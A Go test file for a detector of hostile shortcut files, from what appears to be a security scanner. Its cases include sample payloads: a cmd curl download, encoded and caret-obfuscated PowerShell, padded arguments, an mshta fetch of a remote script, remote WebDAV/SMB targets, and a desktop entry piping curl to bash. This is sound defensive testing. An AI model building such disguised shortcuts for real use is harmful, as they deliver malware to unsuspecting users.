package shortcut

import (
	"bytes"
	"os"
	"strings"
	"testing"

	"github.com/sekisho/sekisho"
	"github.com/sekisho/sekisho/checkpoint"
	detector "github.com/sekisho/sekisho/detector/shortcut"
	"github.com/sekisho/sekisho/judge"
	"github.com/sekisho/sekisho/opener/file"
	"github.com/sekisho/sekisho/rules"
)

// TestHostile goes through the checkpoint and the rules of the detector.
func TestHostile(t *testing.T) {
	set, err := rules.Load(os.DirFS("../../detector/shortcut"))
	if err != nil {
		t.Fatal(err)
	}
	detectors := []*sekisho.Detector{detector.Detector}
	j, err := judge.Compile(set.Rules, nil, detectors)
	if err != nil {
		t.Fatal(err)
	}
	cp, err := checkpoint.New(checkpoint.Config{Openers: []*sekisho.Opener{file.Opener, Opener}, Detectors: detectors, Judge: j})
	if err != nil {
		t.Fatal(err)
	}
	link := func(target, arguments, icon, tail string) []byte {
		return linkOf(sekisho.Shortcut{Target: target, Arguments: arguments, Icon: icon, Show: "normal"}, "a.exe", tail)
	}
	web := func(lines ...string) []byte {
		return []byte("[InternetShortcut]\r\n" + strings.Join(lines, "\r\n"))
	}
	entry := func(lines ...string) []byte {
		return []byte("[Desktop Entry]\nType=Application\nName=a\n" + strings.Join(lines, "\n"))
	}
	list := func(url string) []byte {
		return []byte(`<?xml version="1.0"?><plist version="1.0"><dict><key>URL</key><string>` + url + `</string></dict></plist>`)
	}
	const cmd, ps = `C:\Windows\System32\cmd.exe`, `%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell.exe`
	for _, tt := range []struct {
		test, name string
		data       []byte
		want       sekisho.Action
		rule       string
	}{
		{"fetches", "plan.lnk", link(cmd, "/c curl https://a.example/x -o y", "", ""), sekisho.ActionHold, "shortcut-runs-hidden-command"},
		{"encoded", "plan.lnk", link(ps, "-enc "+strings.Repeat("QQBB", 30), "", ""), sekisho.ActionHold, "shortcut-runs-hidden-command"},
		{"carets", "plan.lnk", link(cmd, "/c p^o^w^e^r^shell -c x", "", ""), sekisho.ActionHold, "shortcut-runs-hidden-command"},
		{"padded", "plan.lnk", link(cmd, strings.Repeat(" ", 300)+"/c a.vbs", "", ""), sekisho.ActionHold, "shortcut-runs-hidden-command"},
		{"padded by line ends", "plan.lnk", link(cmd, strings.Repeat("\n", 300)+"/c a.vbs", "", ""), sekisho.ActionHold, "shortcut-runs-hidden-command"},
		{"icon of a document", "plan.lnk", link(cmd, "/c a.vbs", `C:\plan.pdf`, ""), sekisho.ActionHold, "shortcut-runs-hidden-command"},
		{"no window", "plan.lnk", link(ps, "-w hidden -f a.ps1", "", ""), sekisho.ActionHold, "shortcut-runs-hidden-command"},
		{"a script host with an address", "plan.lnk", link("mshta.exe", "https://a.example/p.hta", "", ""), sekisho.ActionHold, "shortcut-runs-hidden-command"},
		{"carries a program", "plan.lnk", link(cmd, "/c findstr x", "", strings.Repeat("x", 9000)), sekisho.ActionHold, "shortcut-runs-hidden-command"},
		{"carries something", "plan.lnk", link(`C:\a.exe`, "", "", strings.Repeat("x", 9000)), sekisho.ActionWarn, "shortcut-carries-data"},
		{"a command", "plan.lnk", link(cmd, "/c a.vbs", "", ""), sekisho.ActionWarn, "shortcut-runs-shell"},
		{"a program on another machine", "plan.lnk", link(`\\192.0.2.7@SSL\DavWWWRoot\plan.exe`, "", "", ""), sekisho.ActionHold, "shortcut-to-other-machine"},
		{"a file on another machine", "plan.url", web("URL=file://192.0.2.7/a/plan.pdf"), sekisho.ActionHold, "shortcut-to-other-machine"},
		{"a program here", "plan.url", web("URL=file:///C:/Windows/System32/calc.exe"), sekisho.ActionHold, "shortcut-starts-by-scheme"},
		{"a search elsewhere", "plan.url", web(`URL=search-ms:query=plan&crumb=location:\\192.0.2.7\a`), sekisho.ActionHold, "shortcut-starts-by-scheme"},
		{"an icon elsewhere", "plan.url", web("URL=https://a.example", `IconFile=\\192.0.2.7\a\b.ico`), sekisho.ActionWarn, "shortcut-icon-elsewhere"},
		{"without its extension", "plan", web("URL=file://192.0.2.7/a/plan.pdf"), sekisho.ActionHold, "shortcut-to-other-machine"},
		{"a share of macOS", "plan.webloc", list("smb://192.0.2.7/a"), sekisho.ActionHold, "shortcut-starts-by-scheme"},
		{"a binary location", "plan.inetloc", []byte(plistOf("file://192.0.2.7/a/b.app")), sekisho.ActionHold, "shortcut-to-other-machine"},
		{"a desktop entry that fetches", "plan.desktop", entry(`Exec=bash -c "curl https://a.example/x | bash"`), sekisho.ActionHold, "shortcut-desktop-command"},
		{"a desktop entry like a document", "plan.pdf.desktop", entry(`Exec=sh -c "./x"`, "Icon=application-pdf"), sekisho.ActionHold, "shortcut-desktop-command"},
		{"a web page", "docs.url", web("URL=https://docs.example/", `IconFile=C:\a.ico`), sekisho.ActionPass, ""},
		{"a program", "editor.lnk", link(`C:\Program Files\Editor\editor.exe`, "--new", "", ""), sekisho.ActionPass, ""},
		{"a web page of macOS", "docs.webloc", list("https://docs.example/"), sekisho.ActionPass, ""},
		{"a desktop entry", "vim.desktop", entry("Exec=vim %F", "Icon=gvim", "Terminal=true"), sekisho.ActionPass, ""},
	} {
		t.Run(tt.test, func(t *testing.T) {
			verdict := cp.Inspect(t.Context(), &sekisho.Artifact{Kind: sekisho.KindFile, Name: tt.name, Blob: bytes.NewReader(tt.data), Size: int64(len(tt.data))})
			var held []string
			for _, f := range verdict.Findings {
				held = append(held, f.Rule)
			}
			if verdict.Action != tt.want || !strings.Contains(strings.Join(held, " "), tt.rule) || len(verdict.Gaps) > 0 {
				t.Errorf("%s by %q, want %s by %s; gaps %v", verdict.Action, held, tt.want, tt.rule, verdict.Gaps)
			}
		})
	}
}
